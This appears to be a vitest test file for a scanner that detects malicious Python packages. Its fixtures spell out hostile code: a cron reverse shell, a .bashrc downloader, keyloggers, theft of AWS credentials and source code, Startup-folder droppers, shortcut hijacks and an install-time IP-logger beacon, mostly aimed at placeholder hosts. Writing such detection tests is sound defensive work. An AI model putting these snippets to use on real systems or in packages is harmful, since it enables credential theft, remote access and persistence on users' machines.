import { describe, expect, it } from 'vitest';
import { findingsOf, scanSdist } from './helpers.js';

const SETUP = 'from setuptools import setup\nsetup(name="fixture-py", version="1.0.0")\n';

describe('load-time calls: functions handed to threads, timers and atexit', () => {
  const init = `import requests, threading\ndef init():\n    code = requests.get("https://pastebin.com/raw/abc").text\n    open("x.py", "w").write(code)\n`;

  it('a thread started at import runs its target at import', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': `${init}threading.Thread(target=init).start()\n`,
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-006')[0]?.context).toBe('import');
    expect(r.verdict).toBe('malicious');
  });

  it('atexit.register and threading.Timer count too', async () => {
    for (const start of ['import atexit\natexit.register(init)\n', 'threading.Timer(5, init).start()\n']) {
      const r = await scanSdist({ 'pkg/__init__.py': `${init}${start}`, 'setup.py': SETUP });
      expect(findingsOf(r, 'PY-006')[0]?.context).toBe('import');
    }
  });

  it('a thread target inside a function nothing calls stays runtime', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': `${init}def start():\n    threading.Thread(target=init).start()\n`,
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-006')).toHaveLength(0);
    expect(r.verdict).not.toBe('malicious');
  });
});

describe('taint: chat bot message handlers receive remote input (PY-010)', () => {
  it('a Telegram handler that runs the message text is a remote shell', async () => {
    const r = await scanSdist({
      'pkg/bot.py': `import subprocess, telebot\nbot = telebot.TeleBot("1:x")\n@bot.message_handler(commands=["sh"])\ndef sh(message):\n    out = subprocess.run(message.text[4:], shell=True, capture_output=True)\n    bot.reply_to(message, out.stdout)\n`,
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-010')[0]?.severity).toBe('critical');
  });

  it('a python-telegram-bot CommandHandler callback counts too', async () => {
    const r = await scanSdist({
      'pkg/bot.py': `import os\nfrom telegram.ext import CommandHandler\ndef run(update, context):\n    os.system(update.message.text)\napp.add_handler(CommandHandler("run", run))\n`,
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-010')).toHaveLength(1);
  });

  it('a handler that runs a fixed command, or a non-bot decorator, is not', async () => {
    const fixed = await scanSdist({
      'pkg/bot.py': `import subprocess, telebot\nbot = telebot.TeleBot("1:x")\n@bot.message_handler(commands=["up"])\ndef up(message):\n    out = subprocess.run(["uptime"], capture_output=True)\n    bot.reply_to(message, out.stdout)\n`,
      'setup.py': SETUP,
    });
    expect(findingsOf(fixed, 'PY-010')).toHaveLength(0);
    const click = await scanSdist({
      'pkg/cli.py': `import subprocess, click\n@click.command()\ndef main(command):\n    subprocess.run(command, shell=True)\n`,
      'setup.py': SETUP,
    });
    expect(findingsOf(click, 'PY-010')).toHaveLength(0);
  });
});

describe('PY-008: wallet secrets and hidden destinations', () => {
  it('a prefixed private-key parameter sent to a server is a secret flow', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': `import requests, base64\ndef validate(from_private_key):\n    requests.post("https://api.example.invalid/v", json={"s": base64.b64encode(from_private_key.encode()).decode()})\n`,
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-008')[0]?.severity).toBe('critical');
  });

  it('a private-key-looking name that is only a flag or a count is not', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': `import requests\ndef send(n):\n    private_key_count = n\n    requests.post("https://api.example.invalid/v", json={"n": n})\n`,
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-008')).toHaveLength(0);
  });

  const send = (host: string) =>
    `import os, json, base64\nfrom http.client import HTTPSConnection\ndef report(v):\n    c = HTTPSConnection(${host}, timeout=1)\n    c.request("POST", "/r", json.dumps({"n": os.getlogin(), "v": v}))\n`;

  it('host data sent to an address decoded at run time is critical', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': send(
        `base64.b64decode("${Buffer.from('collect.example.invalid').toString('base64')}").decode()`,
      ),
      'setup.py': SETUP,
    });
    const f = findingsOf(r, 'PY-008')[0];
    expect(f?.severity).toBe('critical');
    expect(f?.evidence?.hiddenDestination).toBe(true);
  });

  it('host data sent to a plain address stays high', async () => {
    const r = await scanSdist({ 'pkg/__init__.py': send('"telemetry.example.invalid"'), 'setup.py': SETUP });
    expect(findingsOf(r, 'PY-008')[0]?.severity).toBe('high');
  });
});

describe('PY-012: keyboard hooks that keep the keys', () => {
  const hook = (body: string) =>
    `from pynput import keyboard\ndef pressed(key):\n${body}\ndef start():\n    with keyboard.Listener(on_press=pressed) as l:\n        l.join()\n`;

  it('a handler writing every key to a file is a keylogger (critical)', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': hook('    f = open("k.txt", "a")\n    f.write(str(key))\n'),
      'setup.py': SETUP,
    });
    const f = findingsOf(r, 'PY-012')[0];
    expect(f?.severity).toBe('critical');
    expect(f?.evidence?.recorded).toBe('recorded');
    expect(r.verdict).not.toBe('clean');
  });

  it('a handler sending keys out is critical with high confidence', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': `import requests\n${hook('    requests.post("https://x.example.invalid", data={"k": str(key)})\n')}`,
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-012')[0]?.evidence?.recorded).toBe('sent');
  });

  it('a hotkey handler that only compares the key stays high', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': hook('    if key == keyboard.Key.esc:\n        return False\n'),
      'setup.py': SETUP,
    });
    const f = findingsOf(r, 'PY-012')[0];
    expect(f?.severity).toBe('high');
    expect(f?.evidence?.recorded).toBeUndefined();
  });
});

describe('PY-017: VCS install targets', () => {
  it('pip install git+<computed> is an install from outside the index', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': `import subprocess\ndef install(repo):\n    subprocess.run(["pip", "install", f"git+{repo}"])\ninstall(REPO)\n`,
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-017')[0]?.severity).toBe('high');
  });

  it('pip install of a named package stays medium', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': `import subprocess\nsubprocess.run(["pip", "install", "gitpython"])\n`,
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-017')[0]?.severity).toBe('medium');
  });
});

describe('PY-004: commands on lines that do not parse (text fallback)', () => {
  it('a reverse shell in a broken os.system line is read as text', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': `def f():\n    return 1\n__import__("os").system("(crontab -l ; echo "*/5 * * * * bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'") | crontab -")\n`,
      'setup.py': SETUP,
    });
    const f = findingsOf(r, 'PY-004').find((x) => x.evidence?.textFallback);
    expect(f?.severity).toBe('critical');
    expect(f?.category).toBe('backdoor');
  });

  it('an ordinary command on a broken line adds nothing', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': `def f(:\n    os.system("make -C "build" all")\n`,
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-004').filter((x) => x.evidence?.textFallback)).toHaveLength(0);
  });
});

describe('PY-005: downloads dropped into an autostart folder', () => {
  it('a response written into the Startup folder runs at logon (critical)', async () => {
    const r = await scanSdist({
      'pkg/dl.py': `import os, requests\ndef fetch(url, name):\n    folder = os.path.expanduser('~\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup')\n    p = os.path.join(folder, name)\n    r = requests.get(url)\n    with open(p, 'wb') as out:\n        out.write(r.content)\n`,
      'setup.py': SETUP,
    });
    const f = findingsOf(r, 'PY-005')[0];
    expect(f?.severity).toBe('critical');
    expect(f?.message).toMatch(/autostart/);
  });

  it('a response written to a data folder is not a dropper', async () => {
    const r = await scanSdist({
      'pkg/dl.py': `import os, requests\ndef fetch(url, name):\n    folder = os.path.expanduser('~/.cache/pkg')\n    p = os.path.join(folder, name)\n    r = requests.get(url)\n    with open(p, 'wb') as out:\n        out.write(r.content)\n`,
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-005')).toHaveLength(0);
  });
});

describe('PY-020: hidden processes started at import', () => {
  const code = `import subprocess, sys\nsubprocess.Popen([sys.executable, "w.py"], creationflags=subprocess.DETACHED_PROCESS, stdout=subprocess.DEVNULL)\n`;

  it('is high when it starts while the package is imported', async () => {
    const r = await scanSdist({ 'pkg/__init__.py': code, 'setup.py': SETUP });
    const f = findingsOf(r, 'PY-020')[0];
    expect(f?.severity).toBe('high');
    expect(f?.message).toMatch(/imported/);
  });

  it('stays medium in a function run on request', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': `import subprocess, sys\ndef daemon():\n    ${code.split('\n')[1]}\n`,
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-020')[0]?.severity).toBe('medium');
  });
});

describe('PY-011: shortcut hijacks and shell start-up payloads', () => {
  const walk = (value: string) =>
    `import os\nfrom win32com.client import Dispatch\nshell = Dispatch('WScript.Shell')\nfor root, dirs, files in os.walk(os.getenv('APPDATA')):\n    for f in files:\n        sc = shell.CreateShortcut(root + '\\\\' + f)\n        sc.Arguments = ${value}\n        sc.Save()\n`;

  it('rewriting the arguments of shortcuts found on disk is a launch hijack (install: malicious)', async () => {
    const r = await scanSdist({ 'setup.py': `${walk("'--load-extension=C:\\\\x'")}${SETUP}` });
    const f = findingsOf(r, 'PY-011')[0];
    expect(f?.severity).toBe('high');
    expect(f?.evidence?.extension).toBe(true);
    expect(r.verdict).toBe('malicious');
  });

  it('creating a new shortcut for the package itself is not', async () => {
    const r = await scanSdist({
      'pkg/shortcut.py': `import os\nfrom win32com.client import Dispatch\ndef make():\n    sc = Dispatch('WScript.Shell').CreateShortcut(os.path.join(os.getenv('USERPROFILE'), 'Desktop', 'App.lnk'))\n    sc.TargetPath = 'C:\\\\App\\\\app.exe'\n    sc.Arguments = '--start'\n    sc.Save()\n`,
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-011')).toHaveLength(0);
  });

  const rc = (line: string) =>
    `import os\ndef setup_shell():\n    with open(os.path.expanduser("~/.bashrc"), "a") as f:\n        f.write(${JSON.stringify(line)})\n`;

  it('a downloader appended to ~/.bashrc is critical persistence', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': rc(
        `bash -c 'echo "wget https://dl.example.invalid/p -O /tmp/p && chmod +x /tmp/p && /tmp/p" > ~/.p.sh; bash ~/.p.sh'\n`,
      ),
      'setup.py': SETUP,
    });
    const f = findingsOf(r, 'PY-011').find((x) => x.evidence?.kind === 'shell start-up file');
    expect(f?.severity).toBe('critical');
  });

  it('a completion line appended to ~/.bashrc is not', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': rc('eval "$(register-python-argcomplete mytool)"\n'),
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-011').filter((x) => x.severity === 'critical')).toHaveLength(0);
  });
});

describe('code run by threads and obfuscated modules', () => {
  it('Thread(target=exec, args=(downloaded,)) is remote code execution (PY-003)', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': `import requests, threading\ndef start():\n    code = requests.get("http://192.0.2.1/x").text\n    threading.Thread(target=exec, args=(code, {}), daemon=True).start()\n`,
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-003')).toHaveLength(1);
  });

  it('a thread running an ordinary function is not', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': `import requests, threading\ndef work(code):\n    print(code)\ndef start():\n    code = requests.get("https://example.invalid/x").text\n    threading.Thread(target=work, args=(code,)).start()\n`,
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-003')).toHaveLength(0);
  });

  const confusable = (tail: string) =>
    `${Array.from({ length: 20 }, (_, i) => `${'_'.repeat(3 + (i % 6))}${String.fromCharCode(97 + i)} = [${i}, ___a]`).join('\n')}\n${tail}\n`;

  it('confusable identifiers with eval/exec in the same file are high', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': confusable('___x = eval("\\x65\\x76\\x61\\x6c")\n___x(___a)'),
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-014')[0]?.severity).toBe('high');
  });

  it('confusable identifiers alone stay medium', async () => {
    const r = await scanSdist({ 'pkg/__init__.py': confusable('print(___a)'), 'setup.py': SETUP });
    expect(findingsOf(r, 'PY-014')[0]?.severity).toBe('medium');
  });
});

describe('PY-005: a helper that writes the download and returns its path', () => {
  const helper = (run: string) =>
    `import requests, subprocess, sys\ndef fetch():\n    code = requests.get("https://example.invalid/x.py").text\n    tgt = "/tmp/.cache.dat"\n    with open(tgt, "w") as f:\n        f.write(code)\n    return tgt\ndef start():\n    path = fetch()\n    ${run}\n`;

  it('the caller running the returned path is download-and-run', async () => {
    const r = await scanSdist({
      'pkg/core.py': helper('subprocess.Popen([sys.executable, path], stdout=subprocess.DEVNULL)'),
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-005')[0]?.severity).toBe('critical');
  });

  it('the caller only reading the returned path is not', async () => {
    const r = await scanSdist({ 'pkg/core.py': helper('print(open(path).read())'), 'setup.py': SETUP });
    expect(findingsOf(r, 'PY-005')).toHaveLength(0);
  });
});

describe("PY-008: the calling program's source read through stack frames", () => {
  const steal = (sink: string) =>
    `import inspect, requests\ndef post(url, data):\n    ${sink}\nfor frame in inspect.stack():\n    with open(frame.filename) as f:\n        content = f.read()\n    post("https://collect.example.invalid/r", {"f": frame.filename, "c": content})\n`;

  it('sent through a local wrapper it is a secret flow', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': steal('requests.post(url, json=data)'),
      'setup.py': SETUP,
    });
    const f = findingsOf(r, 'PY-008')[0];
    expect(f?.severity).toBe('critical');
    expect(f?.message).toMatch(/source code/);
  });

  it('printed locally (a debugging helper) it is not', async () => {
    const r = await scanSdist({ 'pkg/__init__.py': steal('print(url, data)'), 'setup.py': SETUP });
    expect(findingsOf(r, 'PY-008')).toHaveLength(0);
  });
});

describe('PY-006: install-time network use at an encoded address', () => {
  const setup = (host: string) =>
    `import base64, socket\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        socket.gethostbyname(${host})\n        install.run(self)\nsetup(name="fixture-py", version="1.0.0", cmdclass={"install": I})\n`;

  it('is high (evasion) when the address is decoded at run time', async () => {
    const r = await scanSdist({
      'setup.py': setup(`base64.b64decode('${Buffer.from('www.example.invalid').toString('base64')}')`),
    });
    const f = findingsOf(r, 'PY-006')[0];
    expect(f?.severity).toBe('high');
    expect(f?.category).toBe('evasion');
    expect(r.verdict).not.toBe('clean');
  });

  it('stays a low network capability with a plain address', async () => {
    const r = await scanSdist({ 'setup.py': setup("'www.example.invalid'") });
    const f = findingsOf(r, 'PY-006')[0];
    expect(f?.severity).toBe('low');
    expect(f?.category).toBe('network');
  });
});

describe('parameters of local helpers fold to what their callers pass', () => {
  const dropper = (calls: string) =>
    `import requests, subprocess, os\ndef download(url, filename):\n    r = requests.get(url)\n    with open(filename, "wb") as f:\n        f.write(r.content)\ndef run(filename):\n    subprocess.Popen([os.path.abspath(filename)])\n${calls}`;

  it('a download helper and a run helper called with the same constant are download-and-run', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': dropper('download("https://example.invalid/a.exe", "a.exe")\nrun("a.exe")\n'),
      'setup.py': SETUP,
    });
    const f = findingsOf(r, 'PY-005')[0];
    expect(f?.severity).toBe('critical');
    expect(f?.evidence?.target).toBe('a.exe');
  });

  it('callers passing different values fold to nothing', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': dropper('download(u1, "report.csv")\ndownload(u2, "data.json")\n'),
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-005')).toHaveLength(0);
  });

  const reader = (paths: string[]) =>
    `import os, requests\ndef read(p):\n    with open(p, "rb") as f:\n        return f.read()\ndef send(url, data):\n    requests.post(url, files={"f": data})\n${paths.map((p) => `send("https://x.example.invalid", read(os.path.expanduser(${JSON.stringify(p)})))`).join('\n')}\n`;

  it('a read helper called with credential paths taints what it returns (PY-008)', async () => {
    const r = await scanSdist({
      'pkg/__init__.py': reader(['~/.aws/credentials', '~/.minecraft/launcher_accounts.json']),
      'setup.py': SETUP,
    });
    expect(findingsOf(r, 'PY-008')[0]?.severity).toBe('critical');
  });

  it('the same helper reading ordinary files is no flow', async () => {
    const r = await scanSdist({ 'pkg/__init__.py': reader(['~/notes.txt', 'data.json']), 'setup.py': SETUP });
    expect(findingsOf(r, 'PY-008')).toHaveLength(0);
  });
});

describe('PY-005: a shell script written from a constant and run', () => {
  const drop = (script: string) =>
    `import os\nwith open("/tmp/start.sh", "w") as fw:\n    fw.write(${JSON.stringify(script)})\nos.system("bash /tmp/start.sh")\n${SETUP}`;

  it('a script fetching a URL to a file and running it is download-and-run', async () => {
    const r = await scanSdist({
      'setup.py': drop(
        'cp /usr/bin/curl /tmp/c; /tmp/c http://192.0.2.1/p -o /tmp/p; chmod +x /tmp/p; /tmp/p',
      ),
    });
    const f = findingsOf(r, 'PY-005')[0];
    expect(f?.severity).toBe('critical');
    expect(f?.message).toMatch(/shell script/);
  });

  it('a build script without downloads is not', async () => {
    const r = await scanSdist({ 'setup.py': drop('cd build && cmake .. && make -j4 && chmod +x tool') });
    expect(findingsOf(r, 'PY-005')).toHaveLength(0);
  });
});

describe('IP-logger beacons at install', () => {
  it('a setup.py that requests an IP-logger link at install is malicious', async () => {
    const setup = [
      'from setuptools import setup',
      'from setuptools.command.install import install',
      'import urllib.request, platform',
      'class Hook(install):',
      '    def run(self):',
      "        urllib.request.urlopen(urllib.request.Request('https://grabify.link/E09EIF', headers={'User-Agent': platform.platform()}))",
      '        install.run(self)',
      "setup(name='colourful', version='0.1', cmdclass={'install': Hook})",
    ].join('\n');
    const r = await scanSdist({ 'setup.py': setup }, 'colourful');
    expect(findingsOf(r, 'NET-001').some((f) => f.evidence?.endpointKind === 'ip-logger')).toBe(true);
    expect(r.verdict).toBe('malicious');
    // with nothing of the host sent, the IP-logger request alone still is (contacting it is the
    // beacon); the same bare request to an ordinary host is not
    const bare = setup.replace(", headers={'User-Agent': platform.platform()}", '');
    expect((await scanSdist({ 'setup.py': bare }, 'colourful')).verdict).toBe('malicious');
    const plain = await scanSdist(
      { 'setup.py': bare.replace('grabify.link/E09EIF', 'pypi.org/simple/') },
      'colourful',
    );
    expect(plain.verdict).not.toBe('malicious');
  });
});
